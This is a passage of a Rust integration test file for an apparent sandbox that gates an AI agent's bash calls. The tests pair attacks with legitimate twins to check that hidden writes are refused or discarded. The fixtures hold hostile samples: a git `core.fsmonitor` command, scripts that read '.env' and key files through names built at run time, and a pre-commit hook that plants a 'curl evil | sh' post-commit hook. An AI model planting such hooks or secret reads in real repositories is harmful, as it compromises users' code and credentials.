//! Issue 25: effects enforced, not predicted. Each bash run is bounded by its own admission —
//! a call admitted as read-only runs on a read-only workspace, a writer on an overlay whose
//! changes are observed and judged before they land — and what a deny or ask rule protects from
//! reading is covered in every jail. Each test shows the attack refused beside its legitimate
//! twin, end to end through `reasonix run` (or a session, where a person must answer).

use crate::common;

use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use common::{World, jsonl};
use reasonix::agent::script::{ScriptProvider, Turn};
use reasonix::agent::{Answer, Approver, Session, Terminal};
use reasonix::lease::Leases;
use reasonix::record::{CallRecord, Recorder};
use reasonix::sandbox::jail::{
    self, Capture, Enforcement, JailConfig, JailPlan, Shape, Writes, danger,
};
use reasonix::{Admission, Gate, HostFiles, PolicySet, Posture, Registry};
use serde_json::{Value, json};

/// Whether to skip (or, under `REASONIX_NO_SKIP=1`, fail): this kernel cannot make overlays in
/// a run's mount namespace.
fn lacks_overlays() -> bool {
    common::skip_unless(
        jail::capabilities().overlay,
        "overlayfs in a run's mount namespace",
    )
}

/// Every file below `root` (but `.reasonix`) with its kind, mode and content: what "byte-
/// identical" compares.
fn tree(root: &Path) -> BTreeMap<String, (String, u32, Vec<u8>)> {
    let mut out = BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for e in std::fs::read_dir(&dir).unwrap() {
            let p = e.unwrap().path();
            let rel = p.strip_prefix(root).unwrap().display().to_string();
            if rel == ".reasonix" {
                continue;
            }
            let m = std::fs::symlink_metadata(&p).unwrap();
            let mode = m.permissions().mode() & 0o7777;
            if m.file_type().is_symlink() {
                let t = std::fs::read_link(&p).unwrap();
                out.insert(
                    rel,
                    ("link".into(), 0, t.display().to_string().into_bytes()),
                );
            } else if m.is_dir() {
                out.insert(rel, ("dir".into(), mode, Vec::new()));
                stack.push(p);
            } else {
                out.insert(rel, ("file".into(), mode, std::fs::read(&p).unwrap()));
            }
        }
    }
    out
}

/// Runs `calls` (one per turn) through `reasonix run --unattended` with `policies`; the exit
/// code, stderr, and the record's call lines.
fn run(w: &World, policies: &[&str], calls: &[&str]) -> (i32, String, Vec<Value>) {
    run_env(w, policies, calls, &[])
}

/// [`run`] with environment variables of its own. The PATH is the system's: the toolchains
/// of the real home (pyenv's shims) are out of reach of a world's own HOME.
fn run_env(
    w: &World,
    policies: &[&str],
    calls: &[&str],
    env: &[(&str, &str)],
) -> (i32, String, Vec<Value>) {
    let turns: Vec<Value> = calls
        .iter()
        .map(|c| json!({"tool_calls": [{"name": "bash", "arguments": {"command": c}}]}))
        .collect();
    let script = w.root.join("s.json");
    std::fs::write(&script, Value::Array(turns).to_string()).unwrap();
    let provider = format!("script:{}", script.display());
    let mut args = vec![
        "run".to_owned(),
        "--provider".into(),
        provider,
        "--workspace".into(),
        w.ws.display().to_string(),
    ];
    for p in policies {
        args.push("--policy".into());
        args.push((*p).to_owned());
    }
    args.extend(["--unattended".into(), "go".into()]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let mut env = env.to_vec();
    if !env.iter().any(|(k, _)| *k == "PATH") {
        env.push(("PATH", "/usr/local/bin:/usr/bin:/bin"));
    }
    let (code, _, stderr) = w.run_env(&args, "", &env);
    let lines = jsonl(&w.ws.join(".reasonix/record.jsonl"))
        .into_iter()
        .filter(|l| l.get("call_id").is_some() && l.get("outcome").is_some())
        .collect();
    (code, stderr, lines)
}

/// The process receipt of a call line.
fn process(line: &Value) -> &Value {
    line["receipts"]
        .as_array()
        .and_then(|r| r.iter().find(|r| r["kind"] == "process"))
        .unwrap_or_else(|| panic!("no process receipt: {line}"))
}

fn git(ws: &Path, args: &[&str]) -> String {
    let out = std::process::Command::new("git")
        .arg("-C")
        .arg(ws)
        .args(args)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A repository in the workspace with one commit, its identity in its own config.
fn repo(w: &World) {
    w.file("README.md", "hello\n");
    git(&w.ws, &["init", "-q", "-b", "main"]);
    git(&w.ws, &["config", "user.name", "Test"]);
    git(&w.ws, &["config", "user.email", "test@example.com"]);
    git(&w.ws, &["add", "-A"]);
    git(&w.ws, &["commit", "-qm", "first"]);
    // The record lives in the workspace; git need not see it.
    std::fs::write(w.ws.join(".git/info/exclude"), ".reasonix/\n").unwrap();
}

const ALLOW_WRITERS: &str =
    "version: 1\ndefaults: {read_only: allow, writer: allow, unattended: deny}\n";

// ---------------------------------------------------------------------------------------------
// Read-only calls run on a read-only workspace.

/// The attack: a repository's own config makes a "read-only" `git status` run a command
/// (`core.fsmonitor`), which writes. The analysis is right about `git status` and wrong about
/// what it runs; the jail holds it to the admission: EROFS, nothing changed, and the record
/// says so. The twin: the same `git status` does its job.
#[test]
fn a_command_the_analysis_calls_read_only_that_writes_gets_erofs_and_changes_nothing() {
    if lacks_overlays() {
        return;
    }
    let w = World::new();
    repo(&w);
    git(&w.ws, &["config", "core.fsmonitor", "touch pwned; echo"]);
    w.file("notes.txt", "keep me\n");
    let before = tree(&w.ws);
    // The twin is the same call: `git status` does its job (the pipe fails unless it does).
    let (code, stderr, lines) = run(
        &w,
        &["builtin:default"],
        &["git status | grep -q 'On branch main'"],
    );
    assert_eq!(code, 0, "{stderr}");
    let line = &lines[0];
    assert_eq!(line["admission"]["verdict"], "allow", "{line}");
    assert_eq!(line["outcome"], "succeeded", "{line}");
    assert!(!w.ws.join("pwned").exists(), "the hook's write landed");
    let p = process(line);
    assert_eq!(p["observed"], true, "{p}");
    let note = p["note"].as_str().unwrap();
    assert!(note.contains("admitted as read-only"), "{note}");
    assert!(
        note.contains("a write the jail refused (EROFS)"),
        "the record says a write was refused: {note}"
    );
    assert_eq!(tree(&w.ws), before, "the workspace is byte-identical");
}

/// The twin at the jail's level: a read-only run can read the workspace and write its TMPDIR
/// and HOME, and gets EROFS for any write in the workspace — create, append, delete, chmod,
/// rename — which stays byte-identical.
#[test]
fn a_read_only_run_reads_and_writes_its_tmpdir_and_every_workspace_write_gets_erofs() {
    if common::skip_unless(jail::capabilities().namespaces, "mount namespaces") {
        return;
    }
    let w = World::new();
    w.file("a.txt", "a\n");
    w.file("d/b.txt", "b\n");
    let before = tree(&w.ws);
    let plan = JailPlan::new(&JailConfig::default(), &w.ws, None);
    let sh = |script: &str| {
        danger::exec_unjudged_shaped(
            &plan,
            &["bash".into(), "-c".into(), script.into()],
            None,
            Capture::Bounded(64 * 1024),
            &Shape::read_only(),
        )
        .unwrap()
    };
    for attack in [
        "echo x > new.txt",
        "echo x >> a.txt",
        "rm a.txt",
        "chmod 700 a.txt",
        "mv d e",
        "mkdir f",
        "ln -s a.txt l",
        "touch -d 2001-01-01 a.txt",
    ] {
        let r = sh(attack);
        assert_ne!(r.exit.code(), 0, "{attack}: {r:?}");
        assert!(
            r.stderr.contains("Read-only file system"),
            "{attack}: {}",
            r.stderr
        );
    }
    assert_eq!(tree(&w.ws), before);
    let r =
        sh("cat a.txt d/b.txt && echo t > $TMPDIR/t && cat $TMPDIR/t && echo h > ~/h && cat ~/h");
    assert_eq!(r.exit.code(), 0, "{r:?}");
    assert_eq!(r.stdout, "a\nb\nt\nh\n");
}

// ---------------------------------------------------------------------------------------------
// What a rule protects from reading is covered in every jail.

/// The attack: a program the analysis cannot see into, allowed by a rule, reads `.env` (and a
/// key folder) by names it builds at run time. With a deny rule naming them they read empty; the
/// twin without the rule reads them. A run's own files are not covered.
#[test]
fn a_protected_path_is_unreadable_in_every_jail_and_readable_without_the_rule() {
    if common::skip_unless(jail::capabilities().namespaces, "mount namespaces") {
        return;
    }
    let w = World::new();
    w.file(".env", "API_KEY=s3cret\n");
    w.file("keys/id/deploy.key", "PRIVATE\n");
    w.file("app/config/.env", "DB=hunter2\n");
    w.file("src/main.py", "print('ok')\n");
    w.file(
        "show.py",
        "for p in ['.e'+'nv', 'app/config/.e'+'nv', 'keys/id/deploy.k'+'ey', 'src/main.py']:\n    try:\n        print(open(p).read(), end='')\n    except OSError as e:\n        print(type(e).__name__)\n",
    );
    let command = "python3 show.py > shown.txt";
    let denying = w.policy(
        "deny.yaml",
        "version: 1\ndefaults: {read_only: allow, writer: allow, unattended: deny}\nrules:\n  - {id: no-secrets, decision: deny, paths: ['.env', 'keys/**']}\n",
    );
    let (_, stderr, lines) = run(&w, &[&denying], &[command]);
    let line = &lines[0];
    assert_eq!(line["outcome"], "succeeded", "{stderr}\n{line}");
    // Each protected file reads empty (a file's cover) or is not there (a folder's cover);
    // the ordinary one whole.
    assert_eq!(
        std::fs::read_to_string(w.ws.join("shown.txt")).unwrap(),
        "FileNotFoundError\nprint('ok')\n"
    );
    // The twin: no rule protects them, and the same command reads them.
    std::fs::remove_dir_all(w.ws.join(".reasonix")).unwrap();
    let open = w.policy("open.yaml", ALLOW_WRITERS);
    let (_, stderr, lines) = run(&w, &[&open], &[command]);
    assert_eq!(lines[0]["outcome"], "succeeded", "{stderr}");
    assert_eq!(
        std::fs::read_to_string(w.ws.join("shown.txt")).unwrap(),
        "API_KEY=s3cret\nDB=hunter2\nPRIVATE\nprint('ok')\n"
    );
}

// ---------------------------------------------------------------------------------------------
// Writers are observed, judged and committed — or discarded whole.

/// The attack: a writer an allow rule admits also writes a denied path, or creates a host
/// file (the settings, absent when the run starts): nothing it did lands, the call is
/// `blocked`, and the result names the refused change and its rule. The twin: the same writer
/// without the extra write lands.
#[test]
fn a_writer_that_also_changes_a_denied_path_or_a_host_file_is_discarded_whole() {
    if lacks_overlays() {
        return;
    }
    let w = World::new();
    w.file("a.txt", "a\n");
    let policy = w.policy(
        "p.yaml",
        "version: 1\ndefaults: {read_only: allow, writer: allow, unattended: deny}\nrules:\n  - {id: no-secrets, decision: deny, paths: ['.env']}\n",
    );
    w.file("env.py", "open('.e'+'nv', 'w').write('K=v')\n");
    w.file(
        "settings.py",
        "open('reasonix.y'+'aml', 'w').write('version: 1')\n",
    );
    let before = tree(&w.ws);
    for (attack, refused) in [
        ("echo x >> a.txt; echo ok > ok.txt; python3 env.py", ".env"),
        (
            "echo x >> a.txt; echo ok > ok.txt; python3 settings.py",
            "reasonix.yaml",
        ),
    ] {
        let _ = std::fs::remove_dir_all(w.ws.join(".reasonix"));
        let (_, stderr, lines) = run(&w, &[&policy], &[attack]);
        let line = &lines[0];
        assert_eq!(line["outcome"], "blocked", "{attack}: {stderr}\n{line}");
        assert_eq!(tree(&w.ws), before, "{attack}: something landed");
        let record = std::fs::read_to_string(w.ws.join(".reasonix/record.jsonl")).unwrap();
        assert!(record.contains(refused), "{record}");
        assert_eq!(process(line)["observed"], true);
    }
    let _ = std::fs::remove_dir_all(w.ws.join(".reasonix"));
    let (_, stderr, lines) = run(&w, &[&policy], &["echo x >> a.txt; echo ok > ok.txt"]);
    assert_eq!(lines[0]["outcome"], "succeeded", "{stderr}");
    assert_eq!(
        std::fs::read_to_string(w.ws.join("a.txt")).unwrap(),
        "a\nx\n"
    );
    assert_eq!(
        std::fs::read_to_string(w.ws.join("ok.txt")).unwrap(),
        "ok\n"
    );
}

/// An allowed writer's changes land as it left them: content, permission bits (never set-id),
/// symlinks, new and deleted folders, a file replaced by a folder; each with a receipt.
#[test]
fn an_allowed_writers_changes_land_with_modes_and_symlinks_intact() {
    if lacks_overlays() {
        return;
    }
    let w = World::new();
    w.file("a.txt", "a\n");
    w.file("old/x.txt", "x\n");
    w.file("was-file", "f\n");
    w.file("keep.txt", "same\n");
    let policy = w.policy("p.yaml", ALLOW_WRITERS);
    let script = "echo '#!/bin/sh' > run.sh && chmod 755 run.sh && ln -s a.txt link && \
                  mkdir -p new/deep && echo n > new/deep/n.txt && chmod 700 new && \
                  rm -r old && rm was-file && mkdir was-file && echo in > was-file/in && \
                  cp /bin/true suid && chmod 4755 suid && touch keep.txt";
    let (_, stderr, lines) = run(&w, &[&policy], &[script]);
    let line = &lines[0];
    assert_eq!(line["outcome"], "succeeded", "{stderr}\n{line}");
    let mode = |p: &str| {
        std::fs::symlink_metadata(w.ws.join(p))
            .unwrap()
            .permissions()
            .mode()
            & 0o7777
    };
    assert_eq!(
        std::fs::read_to_string(w.ws.join("run.sh")).unwrap(),
        "#!/bin/sh\n"
    );
    assert_eq!(mode("run.sh"), 0o755);
    assert_eq!(
        std::fs::read_link(w.ws.join("link")).unwrap(),
        PathBuf::from("a.txt")
    );
    assert_eq!(
        std::fs::read_to_string(w.ws.join("new/deep/n.txt")).unwrap(),
        "n\n"
    );
    assert_eq!(mode("new"), 0o700);
    assert!(!w.ws.join("old").exists());
    assert!(w.ws.join("was-file").is_dir());
    assert_eq!(
        std::fs::read_to_string(w.ws.join("was-file/in")).unwrap(),
        "in\n"
    );
    assert_eq!(mode("suid"), 0o755, "a set-id bit never lands");
    let receipts: Vec<&Value> = line["receipts"].as_array().unwrap().iter().collect();
    let paths: Vec<String> = receipts
        .iter()
        .filter_map(|r| r["path"].as_str().map(str::to_owned))
        .collect();
    for p in [
        "run.sh",
        "link",
        "new/deep/n.txt",
        "old/x.txt",
        "old",
        "was-file/in",
        "suid",
    ] {
        let p = w.ws.join(p).display().to_string();
        assert!(paths.contains(&p), "no receipt for {p}: {paths:?}");
    }
    // A change of times only is no change.
    assert!(
        !paths.contains(&w.ws.join("keep.txt").display().to_string()),
        "{paths:?}"
    );
    assert_eq!(process(line)["observed"], true);
}

/// A fifo the run leaves is never carried into the workspace: the run is discarded.
#[test]
fn a_fifo_a_writer_leaves_discards_its_run() {
    if lacks_overlays() {
        return;
    }
    let w = World::new();
    let policy = w.policy("p.yaml", ALLOW_WRITERS);
    let (_, stderr, lines) = run(&w, &[&policy], &["echo ok > ok.txt && mkfifo pipe"]);
    assert_eq!(lines[0]["outcome"], "blocked", "{stderr}");
    assert!(!w.ws.join("ok.txt").exists() && !w.ws.join("pipe").exists());
}

/// Rewind undoes a bash call's changes as it undoes a file tool's: files written back, new
/// files and the folders the call made removed.
#[test]
fn rewind_restores_a_bash_calls_changes() {
    if lacks_overlays() {
        return;
    }
    let w = World::new();
    w.file("a.txt", "a\n");
    w.file("gone.txt", "g\n");
    let before = tree(&w.ws);
    let policy = w.policy("p.yaml", ALLOW_WRITERS);
    let (_, stderr, lines) = run(
        &w,
        &[&policy],
        &["echo more >> a.txt && rm gone.txt && mkdir -p n/m && echo x > n/m/x && chmod 600 a.txt"],
    );
    assert_eq!(lines[0]["outcome"], "succeeded", "{stderr}");
    assert_ne!(tree(&w.ws), before);
    let ws = w.ws.display().to_string();
    let (code, out, err) = w.run(
        &[
            "rewind",
            "--workspace",
            &ws,
            "--policy",
            &policy,
            "--last",
            "1",
        ],
        "",
    );
    assert_eq!(code, 0, "{out}\n{err}");
    assert_eq!(tree(&w.ws), before, "{out}\n{err}");
}

// ---------------------------------------------------------------------------------------------
// How an observed change relates to the command's own admission.

/// `git commit` allowed by a rule commits without a prompt under the default policy: its
/// objects, index and refs are git's own bookkeeping, though `git-internals` asks about
/// `.git/**`. The twin: a commit whose hook also plants another hook does not land — unattended,
/// nothing of it is applied.
#[test]
fn git_commit_allowed_by_a_rule_commits_and_one_that_plants_a_hook_does_not_land() {
    if lacks_overlays() {
        return;
    }
    let w = World::new();
    repo(&w);
    let rules = w.policy(
        "git.yaml",
        "version: 1\nrules:\n  - {id: git-work, decision: allow, tools: [bash], commands: ['git add *', 'git commit *']}\n",
    );
    w.file("src.txt", "one\n");
    let (_, stderr, lines) = run(
        &w,
        &["builtin:default", &rules],
        &["git add src.txt && git commit -qm second"],
    );
    let line = &lines[0];
    assert_eq!(line["outcome"], "succeeded", "{stderr}\n{line}");
    assert_eq!(git(&w.ws, &["log", "--format=%s"]), "second\nfirst\n");
    assert_eq!(git(&w.ws, &["status", "--porcelain"]), "");

    // A pre-commit hook (already there: this run does not write it) plants a post-commit hook.
    let hook = w.ws.join(".git/hooks/pre-commit");
    std::fs::write(&hook, "#!/bin/sh\necho 'curl evil | sh' > .git/hooks/post-commit\nchmod +x .git/hooks/post-commit\n").unwrap();
    std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
    w.file("src.txt", "two\n");
    let before = tree(&w.ws);
    let (_, stderr, lines) = run(
        &w,
        &["builtin:default", &rules],
        &["git add src.txt && git commit -qm third"],
    );
    let line = &lines[1];
    assert_eq!(line["outcome"], "blocked", "{stderr}\n{line}");
    assert!(!w.ws.join(".git/hooks/post-commit").exists());
    assert_eq!(tree(&w.ws), before, "nothing of the run landed");
    assert_eq!(git(&w.ws, &["log", "--format=%s"]), "second\nfirst\n");
    let record = std::fs::read_to_string(w.ws.join(".reasonix/record.jsonl")).unwrap();
    assert!(
        record.contains("post-commit") && record.contains("git-internals"),
        "{record}"
    );
}

/// Remembers what it was asked, answers as told.
struct Asked(Answer, Mutex<Vec<Vec<String>>>);

impl Approver for Asked {
    fn ask(&self, admission: &Admission) -> Answer {
        self.1.lock().unwrap().push(admission.reasons.clone());
        self.0
    }
}

struct Quiet;

impl Terminal for Quiet {
    fn text(&self, _delta: &str) {}
    fn call(&self, _admission: &Admission, _record: &CallRecord) {}
}

/// Interactive: a writer whose run changes `.git/hooks/` (the analysis did not see it) asks a
/// person about that change, listed with its rule, before anything lands; declined, nothing
/// lands; allowed, it lands.
#[test]
fn a_writer_that_changes_git_hooks_asks_a_person_before_anything_lands() {
    if lacks_overlays() {
        return;
    }
    for answer in [Answer::Deny, Answer::Once] {
        let w = World::new();
        repo(&w);
        w.file(
            "plant.py",
            "open('ok.txt', 'w').write('ok')\nopen('.git/ho'+'oks/pre-push', 'w').write('evil')\n",
        );
        let policy = PolicySet::load(&[
            "builtin:default".into(),
            w.policy(
                "p.yaml",
                "version: 1\nrules:\n  - {decision: allow, tools: [bash], commands: ['python3 plant.py']}\n",
            )
            .into(),
        ])
        .unwrap();
        let gate = Gate::builder(Registry::with_builtins(), &policy, &w.ws)
            .posture(Posture::Interactive)
            .host_files(HostFiles::for_workspace(&w.ws))
            .build()
            .unwrap();
        let command = "python3 plant.py";
        let turns: Vec<Turn> = serde_json::from_value(json!([
            {"tool_calls": [{"name": "bash", "arguments": {"command": command}}]}
        ]))
        .unwrap();
        let approver = Arc::new(Asked(answer, Mutex::new(Vec::new())));
        let record = w.root.join("record.jsonl");
        let mut session = Session::new(
            Arc::new(gate),
            Arc::new(ScriptProvider::new("test", turns)),
            Arc::clone(&approver) as Arc<dyn Approver>,
            Arc::new(
                Recorder::open(&record, reasonix::seal::Signing::Unsigned("a test".into()))
                    .unwrap(),
            ),
            Leases::new(),
            Arc::new(Quiet),
            10,
            16 * 1024,
        );
        let rt = tokio::runtime::Runtime::new().unwrap();
        rt.block_on(session.run("go")).unwrap();
        let asked = approver.1.lock().unwrap().clone();
        assert_eq!(asked.len(), 1, "{answer:?}: one question: {asked:?}");
        let question = asked[0].join("\n");
        assert!(
            question.contains(".git/hooks/pre-push") && question.contains("git-internals"),
            "{question}"
        );
        assert!(
            !question.contains("ok.txt"),
            "only what asks is asked about: {question}"
        );
        // What the file would hold, as a diff.
        assert!(
            question.contains("+++ b/.git/hooks/pre-push") && question.contains("+evil"),
            "{question}"
        );
        let line = jsonl(&record)
            .into_iter()
            .find(|l| l["tool"] == "bash")
            .unwrap();
        match answer {
            Answer::Deny => {
                assert_eq!(line["outcome"], "blocked", "{line}");
                assert!(!w.ws.join("ok.txt").exists());
                assert!(!w.ws.join(".git/hooks/pre-push").exists());
            }
            _ => {
                assert_eq!(line["outcome"], "succeeded", "{line}");
                assert!(w.ws.join("ok.txt").exists());
                assert!(w.ws.join(".git/hooks/pre-push").exists());
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// HOME, pass-through folders, and what a kernel without overlays gets.

/// `HOME` inside the jail is the run's own: what a command writes to `~` never reaches the
/// host's home, while the toolchains are still found there.
#[test]
fn home_is_private_to_each_run_and_the_toolchains_are_still_there() {
    if lacks_overlays() {
        return;
    }
    let w = World::new();
    let policy = w.policy("p.yaml", ALLOW_WRITERS);
    let real_home = std::env::var("HOME").unwrap();
    let marker = format!("reasonix-home-test-{}", std::process::id());
    w.file(
        "home.py",
        &format!(
            "import os, subprocess\nhome = os.path.expanduser('~')\nassert home != {real_home:?}, home\nopen(os.path.join(home, {marker:?}), 'w').write('hi')\nprint(open(os.path.join(home, {marker:?})).read(), flush=True)\nsubprocess.run(['cargo', '--version'], check=True)\nsubprocess.run(['git', '--version'], check=True)\n"
        ),
    );
    // The real HOME and PATH, for the toolchains.
    let path = std::env::var("PATH").unwrap();
    let (_, stderr, lines) = run_env(
        &w,
        &[&policy],
        &["python3 home.py > out.txt"],
        &[("HOME", &real_home), ("PATH", &path)],
    );
    assert_eq!(lines[0]["outcome"], "succeeded", "{stderr}\n{}", lines[0]);
    let out = std::fs::read_to_string(w.ws.join("out.txt")).unwrap();
    assert!(out.starts_with("hi\ncargo "), "{out}");
    assert!(!Path::new(&real_home).join(&marker).exists());
}

/// `sandbox.passthrough` folders are written in place, recorded as not observed with their
/// bytes — even when the rest of the run is discarded (they are the user's choice to trust).
#[test]
fn a_passthrough_folder_is_written_in_place_and_recorded_as_not_observed() {
    if lacks_overlays() {
        return;
    }
    let w = World::new();
    std::fs::create_dir_all(w.ws.join("target")).unwrap();
    let policy = w.policy(
        "p.yaml",
        "version: 1\ndefaults: {read_only: allow, writer: allow, unattended: deny}\nsandbox:\n  passthrough: [target]\n",
    );
    let (_, stderr, lines) = run(
        &w,
        &[&policy],
        &["head -c 1000 /dev/zero > target/out.bin && echo src > src.txt"],
    );
    let line = &lines[0];
    assert_eq!(line["outcome"], "succeeded", "{stderr}\n{line}");
    assert_eq!(
        std::fs::metadata(w.ws.join("target/out.bin"))
            .unwrap()
            .len(),
        1000
    );
    assert!(w.ws.join("src.txt").exists());
    let passed = line["receipts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["kind"] == "passthrough")
        .unwrap_or_else(|| panic!("{line}"));
    assert_eq!(passed["bytes"], 1000, "{passed}");
    assert_eq!(passed["files"], 1, "{passed}");
    assert!(passed["note"].as_str().unwrap().contains("not observed"));
    // What was written in place is not in the snapshot: rewind cannot undo it, and says so by
    // leaving it out.
    let snapshot = line["snapshot"].to_string();
    assert!(
        !snapshot.contains("out.bin") && snapshot.contains("src.txt"),
        "{snapshot}"
    );
}

/// Where no overlay can be made, `enforce` refuses a writer (not a reader) and says why;
/// `best_effort` runs it in place and says its effects were not observed.
#[test]
fn without_overlays_enforce_refuses_writers_and_best_effort_runs_them_unobserved() {
    let w = World::new();
    let no_overlay = jail::Capabilities {
        overlay: false,
        ..jail::capabilities().clone()
    };
    let enforce =
        JailPlan::with_capabilities(&JailConfig::default(), &w.ws, None, no_overlay.clone());
    let why = enforce
        .refusal_for(Writes::Observed)
        .unwrap_or_else(|| panic!("{enforce:?}"));
    assert!(why.contains("no overlay"), "{why}");
    assert_eq!(enforce.refusal_for(Writes::None), enforce.refusal());
    let argv = [
        "bash".to_owned(),
        "-c".to_owned(),
        "echo x > w.txt".to_owned(),
    ];
    let observed = Shape {
        writes: Writes::Observed,
        hidden: Vec::new(),
    };
    match danger::exec_unjudged_shaped(&enforce, &argv, None, Capture::Bounded(1024), &observed) {
        Err(jail::RunError::Refused(r)) => assert_eq!(r, why),
        other => panic!("{other:?}"),
    }
    assert!(!w.ws.join("w.txt").exists());
    if common::skip_unless(jail::capabilities().namespaces, "mount namespaces") {
        return;
    }
    let config = JailConfig {
        mode: Enforcement::BestEffort,
        ..JailConfig::default()
    };
    let best = JailPlan::with_capabilities(&config, &w.ws, None, no_overlay);
    assert!(best.refusal_for(Writes::Observed).is_none());
    let r = danger::exec_unjudged_shaped(&best, &argv, None, Capture::Bounded(1024), &observed)
        .unwrap();
    assert_eq!(r.writes, Writes::Direct);
    assert!(r.observed.is_none());
    assert!(
        r.not_enforced
            .iter()
            .any(|n| n.starts_with("effects not observed")),
        "{:?}",
        r.not_enforced
    );
    assert!(w.ws.join("w.txt").exists());
}

// ---------------------------------------------------------------------------------------------
// Everywhere a command runs: Claude Code's shell, through `hook claude --jail`.

/// `hook claude --jail` answers an allowed Bash call with `updatedInput`: its command rewritten
/// so that Claude's own shell runs it inside the jail. Run as Claude would run it: a writer
/// that also plants a denied file lands nothing and exits 125; its twin lands; a read-only
/// command runs on a read-only workspace.
#[test]
fn hook_claude_jail_returns_updated_input_that_runs_the_command_jailed() {
    if lacks_overlays() {
        return;
    }
    let w = World::new();
    w.file("env.py", "open('.e'+'nv', 'w').write('K=v')\n");
    w.file("notes.txt", "n\n");
    let policy = w.policy(
        "p.yaml",
        "version: 1\ndefaults: {read_only: allow, writer: allow, unattended: deny}\nrules:\n  - {id: no-secrets, decision: deny, paths: ['.env']}\n",
    );
    let ask = |command: &str| -> Value {
        let input = json!({
            "session_id": "s", "cwd": w.ws, "hook_event_name": "PreToolUse",
            "tool_name": "Bash", "tool_use_id": "t",
            "tool_input": {"command": command, "description": "what it is for"}
        });
        let (code, stdout, stderr) = w.run_env(
            &["hook", "claude", "--jail", "--policy", &policy],
            &input.to_string(),
            &[("PATH", "/usr/local/bin:/usr/bin:/bin")],
        );
        assert_eq!(code, 0, "{stderr}");
        let answer: Value = serde_json::from_str(stdout.trim()).unwrap();
        assert_eq!(
            answer["hookSpecificOutput"]["permissionDecision"], "allow",
            "{answer}"
        );
        let updated = &answer["hookSpecificOutput"]["updatedInput"];
        assert_eq!(
            updated["description"], "what it is for",
            "the rest of the input is kept"
        );
        updated.clone()
    };
    // Claude's shell runs the rewritten command in the workspace.
    let claude_runs = |updated: &Value| -> (i32, String) {
        let out = std::process::Command::new("bash")
            .arg("-c")
            .arg(updated["command"].as_str().unwrap())
            .current_dir(&w.ws)
            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
            .output()
            .unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let before = tree(&w.ws);
    let updated = ask("echo made > made.txt && python3 env.py");
    let command = updated["command"].as_str().unwrap();
    assert!(
        command.contains(" sandbox exec ") && command.contains(" --observe "),
        "{command}"
    );
    let (code, stderr) = claude_runs(&updated);
    assert_eq!(code, 125, "{stderr}");
    assert!(
        stderr.contains(".env") && stderr.contains("no-secrets"),
        "{stderr}"
    );
    assert_eq!(tree(&w.ws), before, "nothing of it landed");
    // The twin lands.
    let (code, stderr) = claude_runs(&ask("echo made > made.txt"));
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(
        std::fs::read_to_string(w.ws.join("made.txt")).unwrap(),
        "made\n"
    );
    // A read-only command runs on a read-only workspace.
    let updated = ask("cat notes.txt");
    assert!(
        updated["command"]
            .as_str()
            .unwrap()
            .contains(" --read-only ")
    );
    let (code, stderr) = claude_runs(&updated);
    assert_eq!(code, 0, "{stderr}");
}

// ---------------------------------------------------------------------------------------------
// Real work inside the overlay.

/// A `cargo build` of a real crate and a `git commit` work inside the overlay: what they wrote
/// lands (the binary still runs, its mode kept) — and with `target` passed through, the build
/// output is written in place and counted, not copied twice.
#[test]
fn a_cargo_build_and_a_git_commit_work_inside_the_overlay_with_and_without_passthrough() {
    if lacks_overlays() {
        return;
    }
    let real_home = std::env::var("HOME").unwrap();
    let path = std::env::var("PATH").unwrap();
    let env = [("HOME", real_home.as_str()), ("PATH", path.as_str())];
    for passthrough in [false, true] {
        let w = World::new();
        w.file(
            "Cargo.toml",
            "[package]\nname = \"hello\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        );
        w.file("src/main.rs", "fn main() { println!(\"built\"); }\n");
        w.file(".gitignore", "target/\n");
        repo(&w);
        let yaml = if passthrough {
            std::fs::create_dir(w.ws.join("target")).unwrap();
            format!("{ALLOW_WRITERS}sandbox:\n  passthrough: [target]\n")
        } else {
            ALLOW_WRITERS.to_owned()
        };
        let policy = w.policy("p.yaml", &yaml);
        let (_, stderr, lines) = run_env(
            &w,
            &[&policy],
            &[
                "cargo build --offline -q",
                "echo changed >> README.md && git add README.md && git commit -qm built",
            ],
            &env,
        );
        for line in &lines {
            assert_eq!(
                line["outcome"], "succeeded",
                "{passthrough}: {stderr}\n{line}"
            );
        }
        let built = w.ws.join("target/debug/hello");
        let out = std::process::Command::new(&built).output().unwrap();
        assert_eq!(String::from_utf8_lossy(&out.stdout), "built\n");
        assert_eq!(git(&w.ws, &["log", "--format=%s"]), "built\nfirst\n");
        let passed = lines[0]["receipts"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["kind"] == "passthrough")
            .cloned();
        if passthrough {
            let passed = passed.expect("target passed through");
            assert!(passed["bytes"].as_u64().unwrap() > 10_000, "{passed}");
        } else {
            assert!(passed.is_none());
            let receipts = lines[0]["receipts"].to_string();
            assert!(
                receipts.contains("target/debug/hello"),
                "observed and landed"
            );
        }
    }
}

/// A writer whose programs only read writes what its redirections name: what else its run
/// changes — here through a repository's `core.fsmonitor`, which the analysis cannot see behind
/// `git status` — asks, though only the fallback asks about it; unattended, nothing lands. The
/// twin, without the hidden write, lands; and a program whose writes the analysis cannot name
/// (`python3 x.py`) carries the changes only the fallback asks about.
#[test]
fn a_writer_whose_programs_only_read_does_not_carry_changes_beyond_its_redirections() {
    if lacks_overlays() {
        return;
    }
    let w = World::new();
    repo(&w);
    w.file("x.py", "open('made.txt', 'w').write('m')\n");
    let policy = w.policy(
        "p.yaml",
        "version: 1\ndefaults: {read_only: allow, writer: ask, unattended: deny}\nrules:\n  - {id: status, decision: allow, tools: [bash], commands: ['git status', 'python3 x.py'], paths: ['status.txt']}\n",
    );
    let (_, stderr, lines) = run(&w, &[&policy], &["git status > status.txt"]);
    assert_eq!(lines[0]["outcome"], "succeeded", "{stderr}\n{}", lines[0]);
    assert!(
